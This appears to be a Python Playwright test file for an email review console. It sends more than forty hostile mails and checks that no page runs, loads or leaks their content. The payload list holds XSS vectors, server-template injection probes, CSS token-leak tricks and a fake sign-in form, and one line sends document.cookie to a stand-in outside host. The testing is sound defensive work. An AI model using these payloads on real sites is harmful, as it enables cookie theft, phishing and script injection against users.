"""Mails that want to run, load or leak something from the console's pages: none does."""

from __future__ import annotations

import pytest
from playwright.sync_api import Page, expect

from tests.service.browser.live import LiveServer

AWAY = "http://elsewhere.invalid"
TATTLE = f"fetch('{AWAY}/'+document.cookie);window.ran=1"

PAYLOADS = {
    # scripts
    "script": f"<script>{TATTLE}</script>",
    "script from elsewhere": f"<script src={AWAY}/a.js></script>",
    "script as module": f"<script type=module>import '{AWAY}/a.js'</script>",
    "script split in two": "<scr<script>ipt>window.ran=1</scr</script>ipt>",
    "script after closing what is open": "</div></main></body><script>window.ran=1</script>",
    "script after closing a title": "</title><script>window.ran=1</script>",
    "script after closing an attribute": '"><script>window.ran=1</script>',
    "script after closing an attribute in single quotes": "'><script>window.ran=1</script>",
    "script in a comment that ends early": "--><script>window.ran=1</script><!--",
    "script behind a NUL-like sign": "<\ufffdscript>window.ran=1</script>",
    "script in wide letters": "\uff1cscript\uff1ewindow.ran=1\uff1c/script\uff1e",
    "script as references": "&lt;script&gt;window.ran=1&lt;/script&gt;",
    "template of the server": "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}x{% endfor %}",
    "template of a script": "${window.ran=1}",
    # handlers
    "image that fails": f'<img src=x onerror="{TATTLE}">',
    "body that loads": "<body onload=window.ran=1>",
    "details that open": "<details open ontoggle=window.ran=1>",
    "field with focus": "<input autofocus onfocus=window.ran=1>",
    "handler in an attribute": '" onmouseover="window.ran=1" x="',
    "handler in a title": "' autofocus tabindex=0 onfocus=window.ran=1 '",
    "moving text": "<marquee onstart=window.ran=1>x</marquee>",
    "video's source": "<video><source onerror=window.ran=1></video>",
    # pictures, frames and what else loads
    "image from elsewhere": f"<img src={AWAY}/seen.gif width=1>",
    "set of images": f"<img srcset='{AWAY}/seen.gif 2x'>",
    "frame": f"<iframe src={AWAY}></iframe>",
    "frame with a document": "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "object": f"<object data={AWAY}/x.swf></object><embed src={AWAY}/x>",
    "link to load": f"<link rel=preload href={AWAY}/x as=image><link rel=dns-prefetch href=//elsewhere.invalid>",
    "base": f"<base href={AWAY}/>",
    "refresh": f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    # SVG and MathML
    "svg that loads": "<svg onload=window.ran=1>",
    "svg with a script": "<svg><script>window.ran=1</script></svg>",
    "svg that animates": "<svg><animate onbegin=window.ran=1 attributeName=x dur=1s>",
    "svg that uses": f"<svg><use href='{AWAY}/x.svg#a'></use><image href='{AWAY}/seen.gif'/></svg>",
    "mathml": "<math><mtext><table><mglyph><style><img src=x onerror=window.ran=1>",
    # forms and addresses
    "form": f"<form action={AWAY}><input name=key><button>Sign in again</button></form>",
    "address that is a script": "<a href=javascript:window.ran=1>refund</a>",
    "address of data": "<a href='data:text/html,<script>window.ran=1</script>'>refund</a>",
    # styles that leak
    "style": f"<style>@import '{AWAY}/a.css';body{{background:url({AWAY}/seen.gif)}}</style>",
    "style that reads the token": f"<style>meta[content^=a]{{background:url({AWAY}/a)}}</style>",
    "style in an attribute": f'<p style="background:url({AWAY}/seen.gif)">x</p>',
    "font that reads letters": f"<style>@font-face{{font-family:x;src:url({AWAY}/f);unicode-range:U+30}}</style>",
}

FOREIGN = (
    "main script, main iframe, main object, main embed, main img, main video, main style, main link, main base, "
    "main marquee, main math, main [onload], main [onerror], main [onfocus], main [style], "
    f"main a[href^='javascript:'], form[action^='{AWAY}'], meta[http-equiv]"
)


def test_there_are_forty_payloads() -> None:
    assert len(PAYLOADS) >= 40


@pytest.fixture
def attacked(server: LiveServer) -> dict[str, str]:
    """Each payload as sender, subject, words and quoted thread of one mail; its id by name."""
    return {
        name: server.send(
            **{"from": f"{payload}@x"},
            subject=payload,
            text=f"refund {payload} the fee",
            message_id=f"<{number}@x>",
        )["id"]
        for number, (name, payload) in enumerate(PAYLOADS.items())
    }


def test_nothing_in_a_mail_runs_loads_or_leaves_from_any_page(page: Page, attacked: dict[str, str]) -> None:
    """The page fixture fails on any request to elsewhere, any script's error and any breach of the policy."""
    page.on("dialog", lambda dialog: pytest.fail(f"a dialog opened: {dialog.message}"))
    places = ["/", "/?q=%3Cscript%3E", "/review", *(f"/mails/{email_id}" for email_id in attacked.values())]
    for place in places:
        page.goto(place)
        assert page.evaluate("window.ran") is None, place
        assert page.locator(FOREIGN).count() == 0, place
    assert page.evaluate("document.title") != "49"


def test_a_case_made_of_a_hostile_mail_shows_it_as_words_and_saves_it_unchanged(
    page: Page, server: LiveServer, attacked: dict[str, str]
) -> None:
    page.on("dialog", lambda dialog: pytest.fail(f"a dialog opened: {dialog.message}"))
    made = [
        server.ask("POST", "/v1/checks/cases", email_id=email_id, label="no_refund") for email_id in attacked.values()
    ]
    for place in ("/checks/cases", *(f"/checks/cases/{row['id']}" for row in made)):
        page.goto(place)
        assert page.evaluate("window.ran") is None, place
        assert page.locator(FOREIGN).count() == 0, place
    page.get_by_role("button", name="Save the wording").click()
    expect(page.locator("#notice")).to_contain_text("Saved")
    saved = server.ask("GET", "/v1/checks/cases")["data"][0]
    assert (saved["revision"], saved["case"]) == (2, made[-1]["case"])


def test_why_and_the_lab_show_hostile_words_as_words(page: Page, attacked: dict[str, str]) -> None:
    for name in ("script", "image that fails", "svg that loads"):
        page.goto(f"/mails/{attacked[name]}/why")
        assert page.evaluate("window.ran") is None
        assert page.locator(FOREIGN).count() == 0
    page.goto("/lab")
    expect(page.locator("#tiles button").first).to_be_visible()
    page.locator("#text").fill("<img src=x onerror=ran=1>")
    page.get_by_role("button", name="Read").click()
    expect(page.locator("#arranged .reading")).to_have_text("<img src=x onerror=ran=1>")
    assert page.evaluate("window.ran") is None
